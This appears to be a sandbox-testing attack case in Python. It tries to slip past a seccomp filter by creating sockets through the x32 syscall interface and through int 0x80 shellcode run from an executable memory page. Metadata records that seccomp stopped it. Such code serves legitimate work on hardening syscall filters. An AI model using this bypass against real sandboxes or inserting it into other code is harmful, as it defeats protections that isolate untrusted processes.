"""Call the kernel through its 32-bit interfaces, where a number means another call than a filter expects."""

ATTACK = {"status": ["crashed"], "stopped_by": ["seccomp"], "controls": [["full", "seccomp"], ["container", "seccomp"]]}
import ctypes
import mmap
import os
import platform
import socket

# mov eax, 359 (socket); mov ebx, AF_UNIX; mov ecx, SOCK_STREAM; xor edx, edx; int 0x80; with ebx kept for our caller
INT80 = bytes.fromhex("53 b867010000 bb01000000 b901000000 31d2 cd80 5b c3")
X32_SOCKET = 0x40000000 | 41


def target(x):
    if platform.machine() != "x86_64":
        os.abort()  # other processors have one interface only
    made = [ctypes.CDLL(None).syscall(X32_SOCKET, socket.AF_UNIX, socket.SOCK_STREAM, 0)]
    code = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(INT80)
    made.append(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))())
    for descriptor in made:
        if descriptor > 0 and socket.socket(fileno=descriptor).family == socket.AF_UNIX:
            print("ESCAPED: a socket, made through another interface")
    return x
